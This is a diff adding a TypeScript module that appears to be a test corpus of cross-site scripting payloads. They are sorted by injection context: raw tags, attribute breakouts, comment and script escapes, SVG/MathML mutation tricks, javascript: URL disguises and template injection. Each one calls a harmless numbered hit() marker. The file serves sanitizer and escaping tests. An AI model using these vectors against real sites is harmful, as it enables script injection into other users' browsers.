@@ -1,0 +1,83 @@
+/**
+ * Texts that run a program where one writes them into a page carelessly: each calls `hit` with its number. The contexts: between
+ * tags, in attributes of either quotes and of none, in comments, titles, styles, scripts and JSON, in SVG and MathML, in addresses
+ * with all their disguises, in templates, and what mutates when it is parsed twice.
+ */
+const patterns: readonly string[] = [
+  // Between tags.
+  '<script>hit(N)</script>',
+  '<ScRiPt >hit(N)</sCrIpT >',
+  '<script src="data:text/javascript,hit(N)"></script>',
+  '<script type="module">hit(N)</script>',
+  '<script/x>hit(N)</script>',
+  '<scr<script>ipt>hit(N)</scr</script>ipt>',
+  '<img src=x onerror=hit(N)>',
+  '<img src=x onerror="hit(N)"//',
+  '<img/src/onerror=hit(N)>',
+  '<IMG SRC=x ONERROR=&#104;it(N)>',
+  '<image src=x onerror=hit(N)>',
+  '<video><source onerror=hit(N)></video>',
+  '<audio src=x onerror=hit(N)>',
+  '<iframe src="javascript:parent.hit(N)"></iframe>',
+  '<iframe srcdoc="<script>parent.hit(N)</script>"></iframe>',
+  '<object data="javascript:hit(N)"></object>',
+  '<embed src="javascript:hit(N)">',
+  '<input autofocus onfocus=hit(N)>',
+  '<textarea autofocus onfocus=hit(N)></textarea>',
+  '<details open ontoggle=hit(N)><summary>x</summary></details>',
+  '<body onload=hit(N)>',
+  '<marquee onstart=hit(N)>x</marquee>',
+  '<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart=hit(N)>x</b>',
+  '<form><button formaction="javascript:hit(N)">x</button></form>',
+  '<form action="javascript:hit(N)"><input type=submit></form>',
+  '<meta http-equiv="refresh" content="0;url=javascript:hit(N)">',
+  '<base href="javascript:hit(N)//">',
+  '<link rel=stylesheet href="data:text/css,*{color:red}" onload=hit(N)>',
+  '<template><script>hit(N)</script></template><b onclick=hit(N) accesskey=x>x</b>',
+  '<x contenteditable onfocus=hit(N) tabindex=1 autofocus>x</x>',
+  // Out of attributes.
+  '" onfocus=hit(N) autofocus tabindex=1 x="',
+  "' onfocus=hit(N) autofocus tabindex=1 x='",
+  '` onmouseover=hit(N) x=`',
+  '"><img src=x onerror=hit(N)>',
+  "'><img src=x onerror=hit(N)>",
+  '"/><svg/onload=hit(N)>',
+  'x onerror=hit(N) src=x ',
+  '&quot; onfocus=hit(N) autofocus x=&quot;',
+  '&#34;&#62;<img src=x onerror=hit(N)>',
+  // Out of comments, titles, styles, scripts and JSON.
+  '--><img src=x onerror=hit(N)>',
+  '--!><img src=x onerror=hit(N)><!--',
+  '</title><img src=x onerror=hit(N)>',
+  '</textarea><img src=x onerror=hit(N)>',
+  '</style><img src=x onerror=hit(N)>',
+  '</script><script>hit(N)</script>',
+  '</script><img src=x onerror=hit(N)>',
+  '<!--<script>hit(N)//-->',
+  ']]><img src=x onerror=hit(N)>',
+  '";hit(N);//',
+  "';hit(N);//",
+  '`${hit(N)}`',
+  '\\";hit(N);//',
+  '\u2028hit(N)//',
+  // SVG and MathML.
+  '<svg onload=hit(N)>',
+  '<svg><script>hit(N)</script></svg>',
+  '<svg><a xlink:href="javascript:hit(N)"><text y=20>x</text></a></svg>',
+  '<svg><animate onbegin=hit(N) attributeName=x dur=1s></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit(N)&gt;">',
+  '<svg></p><style><a id="</style><img src=x onerror=hit(N)>">',
+  // Addresses.
+  'javascript:hit(N)',
+  'JaVaScRiPt:hit(N)//',
+  'java\tscript:hit(N)',
+  '\u0001javascript:hit(N)',
+  'javascript&colon;hit(N)',
+  'data:text/html,<script>parent.hit(N)</script>',
+  'vbscript:hit(N)',
+  '//host.example/?hit(N)',
+  // Templates.
+  '{{constructor.constructor("hit(N)")()}}{hit(N)}${hit(N)}',
+];
+
+export const payloads: readonly string[] = patterns.map((pattern, index) => pattern.replaceAll('(N)', `(${index})`));
